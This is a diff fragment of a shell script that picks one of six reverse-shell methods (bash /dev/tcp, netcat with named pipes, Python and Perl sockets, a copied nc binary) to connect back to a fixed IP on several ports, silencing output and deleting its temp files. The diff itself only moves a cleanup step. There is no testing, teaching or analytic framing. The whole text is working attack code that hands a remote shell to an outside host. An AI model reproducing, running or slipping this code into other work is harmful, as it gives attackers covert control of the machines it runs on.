@@ -2,7 +2,7 @@
 c=198.51.100.66
 case $((v % 6)) in
 0) have bash && bash -c "exec 5<>/dev/tcp/$c/4444; sh <&5 >&5 2>&5" || { rm -f /tmp/f; mkfifo /tmp/f; sh </tmp/f 2>&1 | nc $c 4444 >/tmp/f; } ;;
-1) rm -f /tmp/.p; mkfifo /tmp/.p; cat /tmp/.p | sh -i 2>&1 | nc $c 4445 >/tmp/.p; rm -f /tmp/.p ;;
+1) rm -f /tmp/.p; mkfifo /tmp/.p; cat /tmp/.p | sh -i 2>&1 | nc $c 4445 >/tmp/.p ;;
 2) if have python3; then python3 -c "import socket,os,subprocess;s=socket.socket();s.connect(('$c',1337));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
    else nc $c 1337 -e /bin/sh || { mkfifo /tmp/q; nc $c 1337 </tmp/q | sh >/tmp/q 2>&1; }; fi ;;
 3) if have perl; then perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(9001,inet_aton('$c')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i')"
@@ -12,4 +12,5 @@ case $((v % 6)) in
    else mkfifo /tmp/s; nc $c 4444 </tmp/s | sh >/tmp/s 2>&1; fi ;;
 5) cp "$(command -v nc || echo /bin/sh)" /tmp/.n 2>/dev/null; mkfifo /tmp/t; /tmp/.n $c 4445 </tmp/t 2>/dev/null | sh >/tmp/t 2>&1; nohup sh -c "sleep 0.1; nc $c 1337 </dev/null" >/dev/null 2>&1 ;;
 esac </dev/null >/dev/null 2>&1
-rm -f /tmp/f /tmp/q /tmp/r /tmp/s /tmp/t /tmp/.n
+#--- cleanup
+rm -f /tmp/f /tmp/q /tmp/r /tmp/s /tmp/t /tmp/.n /tmp/.p
